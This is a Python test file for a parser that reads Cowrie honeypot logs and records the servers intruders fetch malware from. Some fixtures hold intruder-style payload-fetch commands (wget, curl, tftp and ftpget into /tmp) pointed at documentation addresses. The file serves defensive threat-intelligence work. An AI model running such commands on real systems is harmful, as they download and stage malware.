"""Honeypot logs."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hinomi.collect.evidence.cowrie import (
    ATTACKER,
    BROUGHT,
    ITSELF,
    NO_FETCH,
    NO_FILE,
    NO_URL,
    OTHER,
    PROXIED,
    recognises,
)
from hinomi.collect.evidence.intake import A_NAME, LATER, PRIVATE, UNROUTABLE
from hinomi.errors import MalformedDocument
from hinomi.model.evidence import Claim, Evidence, Method
from testimony import SAMPLE, TODAY, parsed, rendered, service

FORM = "cowrie"


def event(kind: str, **fields: Any) -> str:
    """Log one event of today."""
    stated = {"timestamp": "2026-02-01T01:02:03.456789Z", "src_ip": "198.51.100.7", **fields}
    return json.dumps({"eventid": f"cowrie.{kind}", **stated}) + "\n"


def download(url: str, shasum: str | None = SAMPLE, **fields: Any) -> str:
    """Log a file that was fetched."""
    return event("session.file_download", url=url, shasum=shasum, **fields)


def command(text: str) -> str:
    """Log a command."""
    return event("command.input", input=text)


def test_the_log_is_told_by_its_first_line() -> None:
    """Whatever else stands in it."""
    assert recognises(event("session.connect"))
    assert recognises('{"a":1, "eventid": "cowrie.login.failed"}\n')
    assert not recognises('{"eventid": "other.event"}\n')
    assert not recognises('{"type": "bundle"}\n{"eventid": "cowrie.x"}')


def test_a_server_that_handed_out_a_file_is_a_loader(tmp_path: Path) -> None:
    """By its digest; the same file twice is one statement of the later day."""
    log = download("http://192.0.2.1:81/a.sh", timestamp="2026-01-30T00:00:00Z")
    log += download("http://192.0.2.1:81/b.sh")

    taken = parsed(tmp_path, log, FORM)

    assert list(taken.evidence) == [
        Evidence(
            service=service("192.0.2.1", 81),
            method=Method.HONEYPOT,
            source="lab",
            claim=Claim.LOADER,
            observed_day=TODAY,
            reference=SAMPLE,
            facts={"times": 2},
        )
    ]


def test_a_server_that_a_command_names_is_a_loader_half_surely(tmp_path: Path) -> None:
    """Nobody knows whether it answered; each of several is one."""
    log = command(
        "cd /tmp; wget http://192.0.2.1/a; curl -O https://192.0.2.2/a; "
        "tftp -g -r a 192.0.2.3; tftp -g -r a 192.0.2.4 6969; ftpget 192.0.2.5 a a"
    )

    taken = parsed(tmp_path, log, FORM)

    assert sorted(rendered(list(taken.evidence))) == [
        "loader 192.0.2.1 tcp/80 0",
        "loader 192.0.2.2 tcp/443 0",
        "loader 192.0.2.3 0",
        "loader 192.0.2.4 udp/6969 0",
        "loader 192.0.2.5 0",
    ]
    assert {each.strength for each in taken.evidence} == {0.5}


def test_a_file_that_came_empty_was_only_asked_for(tmp_path: Path) -> None:
    """Its digest is that of nothing, and no sample."""
    nothing = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

    found = list(parsed(tmp_path, download("http://192.0.2.1/a", nothing), FORM).evidence)

    assert [(each.reference, each.strength) for each in found] == [("", 0.5)]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (event("session.connect", dst_ip="203.0.113.1"), ATTACKER),
        (event("direct-tcpip.request", dst_ip="192.0.2.1", dst_port=80), PROXIED),
        (event("direct-tcpip.data", dst_ip="192.0.2.1", dst_port=80, data="x"), PROXIED),
        (event("session.file_upload", shasum=SAMPLE, filename="a"), BROUGHT),
        (event("session.file_download", shasum=SAMPLE, destfile="a"), NO_URL),
        (event("login.failed", username="192.0.2.1"), OTHER),
        (command("uname -a"), NO_FETCH),
        (command("wget http://192.0.2.1:99999/a"), NO_FETCH),
        (command("wget http://host.example/a"), A_NAME),
        (command("wget http://localhost/a"), A_NAME),
        (command("curl http://192.0.2.1/"), NO_FILE),
        (download("http://10.0.0.1/a"), PRIVATE),
        (download("http://127.0.0.1/a"), UNROUTABLE),
        (download("http://192.0.2.1/a", timestamp="2026-02-02T00:00:00Z"), LATER),
    ],
)
def test_what_names_no_server_is_counted(tmp_path: Path, line: str, reason: str) -> None:
    """Infected hosts, proxies' targets, names and the rest: none is kept."""
    taken = parsed(tmp_path, line, FORM)

    assert (taken.statements, taken.ignored) == (0, {reason: 1})


def test_the_honeypot_itself_is_no_loader(tmp_path: Path) -> None:
    """Intruders fetch from it to see whether it is one."""
    log = event("session.connect", dst_ip="203.0.113.1") + command("wget http://203.0.113.1/a")

    assert parsed(tmp_path, log, FORM).ignored == {ATTACKER: 1, ITSELF: 1}


@pytest.mark.parametrize(
    "line",
    [
        "{",
        "[]",
        "17",
        '{"eventid": 5}',
        "[" * 100_000,
        event("session.connect", dst_ip="nowhere"),
        download("http://192.0.2.1/a", "no digest"),
        download("http://192.0.2.1/a", timestamp="yesterday"),
        download("http://192.0.2.1/a", timestamp=None),
        event("command.input", input=["wget"]),
    ],
)
def test_a_bad_line_is_named(tmp_path: Path, line: str) -> None:
    """With good ones kept the next is read."""
    log = download("http://192.0.2.1/a") + line.strip() + "\n" + download("http://192.0.2.2/a")

    with pytest.raises(MalformedDocument, match="file, line 2: "):
        parsed(tmp_path, log, FORM)
    taken = parsed(tmp_path, log, FORM, keep_good=True)
    assert (taken.statements, taken.malformed) == (2, 1)


def test_a_time_may_be_a_number_of_seconds(tmp_path: Path) -> None:
    """Older versions wrote so."""
    log = download("http://192.0.2.1/a", timestamp=TODAY * 86_400.5)

    assert rendered(list(parsed(tmp_path, log, FORM).evidence)) == ["loader 192.0.2.1 tcp/80 0"]


@given(text=st.text(max_size=200))
def test_no_command_of_an_intruder_stops_the_log(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    """Nor is anything of it kept but the server."""
    folder = tmp_path_factory.mktemp("log")

    taken = parsed(folder, command(f"wget http://192.0.2.1/a;{text}"), FORM)

    assert taken.malformed == 0
    assert all(not each.reference and not each.facts for each in taken.evidence)
